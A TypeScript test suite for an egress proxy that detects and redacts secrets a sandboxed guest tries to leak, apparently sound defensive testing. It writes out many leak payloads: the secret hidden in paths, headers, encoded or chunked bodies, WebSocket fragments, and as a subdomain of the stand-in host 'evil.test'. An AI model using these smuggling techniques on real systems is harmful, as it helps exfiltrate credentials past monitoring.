import assert from "node:assert/strict";
import { describe, type TestContext, test } from "node:test";
import type { AuditLine } from "@opencomputer/protocol/wire";
import {
  type ExchangeFixture,
  type ExchangeFixtureOptions,
  readUntil,
  startExchange,
} from "../../testing/http-exchange-fixture.ts";
import { policyOf, secretOf, tokenOf } from "../../testing/http-policy.ts";
import { type RecordedRequest, recordingUpstream } from "../../testing/http-recording-upstream.ts";
import { opcodes } from "../../websocket/frame.ts";
import { frameOf } from "../../websocket/testing/web-socket-frames.ts";

const value = "7f3c9a1bd24e6080fa52c1e9";
const harmless = "1e9c250fa8064e2bd1a9c3f7";
const token = tokenOf("a");
const policy = policyOf(
  [secretOf("KEY", "a", value)],
  [`${value}.evil.test`, `${harmless}.evil.test`],
);
const host = "Host: api.example.com\r\nConnection: close\r\n";

async function start(t: TestContext, options: ExchangeFixtureOptions): Promise<ExchangeFixture> {
  const exchange = await startExchange({ policy, ...options });
  t.after(() => exchange.close());
  return exchange;
}

interface Outcome {
  readonly received: string;
  readonly request: RecordedRequest | undefined;
  readonly line: AuditLine | undefined;
}

async function send(
  t: TestContext,
  bytes: string,
  options: ExchangeFixtureOptions = {},
): Promise<Outcome> {
  const upstream = recordingUpstream((response) => response.end("a response"));
  const exchange = await start(t, { upstream: upstream.listener, ...options });
  const received = await exchange.send(bytes);
  return {
    received: received.replace(/Date: .*\r\n/, ""),
    request: upstream.requests[0],
    line: exchange.audits[0],
  };
}

const base64 = (text: string) => Buffer.from(`x${text}`).toString("base64");
const chunked = (parts: readonly string[]) =>
  `${parts.map((part) => `${part.length.toString(16)}\r\n${part}\r\n`).join("")}0\r\n\r\n`;
const inBody = (body: string, fields = "") =>
  `POST / HTTP/1.1\r\n${host}${fields}Content-Length: ${body.length}\r\n\r\n${body}`;

/** Where a guest can put a text into a request. */
const places: Record<string, (text: string) => string> = {
  "the path": (text) => `GET /v1/${text}/x HTTP/1.1\r\n${host}\r\n`,
  "the path, percent-encoded": (text) =>
    `GET /${Buffer.from(text).toString("hex").replace(/../g, "%$&")} HTTP/1.1\r\n${host}\r\n`,
  "the query": (text) => `GET /?key=${text} HTTP/1.1\r\n${host}\r\n`,
  "a header": (text) => `GET / HTTP/1.1\r\n${host}X-Key: ${text}\r\n\r\n`,
  "Basic credentials": (text) =>
    `GET / HTTP/1.1\r\n${host}Authorization: Basic ${base64(`user:${text}`)}\r\n\r\n`,
  "a header's name": (text) => `GET / HTTP/1.1\r\n${host}X-${text}: 1\r\n\r\n`,
  "the method": (text) => `${text} / HTTP/1.1\r\n${host}\r\n`,
  "a body": (text) => inBody(`key=${text}`),
  "a JSON body, escaped": (text) =>
    inBody(
      JSON.stringify({ key: text }).replaceAll("a", "\\u0061"),
      "Content-Type: application/json\r\n",
    ),
  "a body in base64": (text) => inBody(`key ${base64(text)} end`),
  "a chunked body, cut in three": (text) =>
    `POST / HTTP/1.1\r\n${host}Transfer-Encoding: chunked\r\n\r\n${chunked([text.slice(0, 3), text.slice(3, 20), text.slice(20)])}`,
};

describe("a guest that sends a value", () => {
  for (const [name, requestWith] of Object.entries(places)) {
    test(`in ${name} is noticed, which the guest cannot observe`, async (t) => {
      const leak = await send(t, requestWith(value));
      const other = await send(t, requestWith(harmless));
      assert.deepEqual(leak.line?.leaked, ["KEY"]);
      assert.deepEqual(other.line?.leaked, []);
      assert.equal(leak.received, other.received);
      // What an upstream's parser refuses is not recorded.
      const requestText = ({ request }: Outcome) => (request ? JSON.stringify(request) : "");
      assert.equal(requestText(leak).length, requestText(other).length);
      assert.ok(!JSON.stringify(leak.line).includes(value), JSON.stringify(leak.line));
      assert.deepEqual([leak.line?.decision, leak.line?.reason], ["allowed", null]);
    });
  }

  test("has it redacted in the audit line, wherever it occurs", async (t) => {
    const path = await send(t, places["the path"]?.(value) ?? "");
    assert.equal(path.line?.path, `/v1/${token}/x`);
    const encoded = await send(t, places["the path, percent-encoded"]?.(value) ?? "");
    assert.equal(encoded.line?.path, `/${token}`);
    const method = await send(t, places["the method"]?.(value) ?? "");
    assert.equal(method.line?.method, token);
    const field = await send(t, `GET / HTTP/1.1\r\n${host}X-${value}-Version: ${token}\r\n\r\n`);
    assert.deepEqual(field.line?.withheld, [{ name: "KEY", place: `header x-${token}-version` }]);
    const long = `x-${"y".repeat(50)}`;
    const longField = `GET / HTTP/1.1\r\n${host}${long}${value}-version: ${token}\r\n\r\n`;
    const { line, received } = await send(t, longField);
    assert.deepEqual(line?.withheld, [{ name: "KEY", place: `header ${long}${token}-version` }]);
    assert.match(received, new RegExp(`withheld=KEY \\(header ${long}${value.slice(0, 12)}\\)`));
  });

  test("in the name of a refused host: the audit line has the token, and the guest sees no difference", async (t) => {
    const get = (text: string) =>
      `GET / HTTP/1.1\r\nHost: ${text}.evil.test\r\nConnection: close\r\n\r\n`;
    const leak = await send(t, get(value), { serverName: `${value}.evil.test` });
    const other = await send(t, get(harmless), { serverName: `${harmless}.evil.test` });
    assert.equal(leak.received.replaceAll(value, "X"), other.received.replaceAll(harmless, "X"));
    assert.equal(leak.line?.host, `${token}.evil.test`);
    assert.equal(leak.line?.reason, `egress to ${token}.evil.test is not allowed`);
    assert.deepEqual([leak.line?.leaked, other.line?.leaked], [["KEY"], []]);
  });

  test("in a request that is refused as malformed: the audit line has the token", async (t) => {
    const request = (text: string) =>
      `POST /${text} HTTP/1.1\r\n${host}Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const leak = await send(t, request(value));
    const other = await send(t, request(harmless));
    assert.match(leak.received, /^HTTP\/1\.1 400 /);
    assert.equal(leak.received, other.received);
    assert.deepEqual([leak.line?.path, leak.line?.leaked], [`/${token}`, ["KEY"]]);
    assert.deepEqual(other.line?.leaked, []);
  });

  test("in part is not noticed", async (t) => {
    const { line } = await send(t, inBody(`${value.slice(1)} ${value.slice(0, -1)}`));
    assert.deepEqual(line?.leaked, []);
  });

  test("that can be guessed is not noticed", async (t) => {
    const guessable = policyOf([secretOf("PIN", "a", "48213975")]);
    const { line } = await send(t, inBody("48213975"), { policy: guessable });
    assert.deepEqual(line?.leaked, []);
  });

  test("as its token is not noticed: the proxy inserts the value itself", async (t) => {
    const { line, request } = await send(t, inBody(token));
    assert.equal(request?.body, value);
    assert.deepEqual(line?.leaked, []);
  });

  for (const kind of ["text", "binary"] as const) {
    test(`in a ${kind} message of a WebSocket is noticed, fragmented or not`, async (t) => {
      for (const [text, leaked] of [
        [value, ["KEY"]],
        [harmless, []],
        [token, []],
      ] as const) {
        const exchange = await start(t, {
          raw: (socket) => {
            socket.once("data", () => {
              socket.write(
                "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
              );
              socket.once("data", () =>
                socket.write(frameOf({ opcode: opcodes.text, payload: "seen" }, "upstream")),
              );
            });
          },
        });
        const guest = exchange.connect();
        guest.write(
          "GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
        );
        await readUntil(guest, (all) => all.endsWith("\r\n\r\n"));
        const begin = { opcode: opcodes[kind], payload: `<${text.slice(0, 9)}`, isFinal: false };
        const rest = { opcode: opcodes.continuation, payload: `${text.slice(9)}>` };
        guest.write(Buffer.concat([frameOf(begin, "guest"), frameOf(rest, "guest")]));
        await readUntil(guest, (all) => all.endsWith("seen"));
        guest.destroy();
        const [line] = await exchange.audited(1);
        assert.deepEqual(line?.leaked, leaked);
      }
    });
  }
});
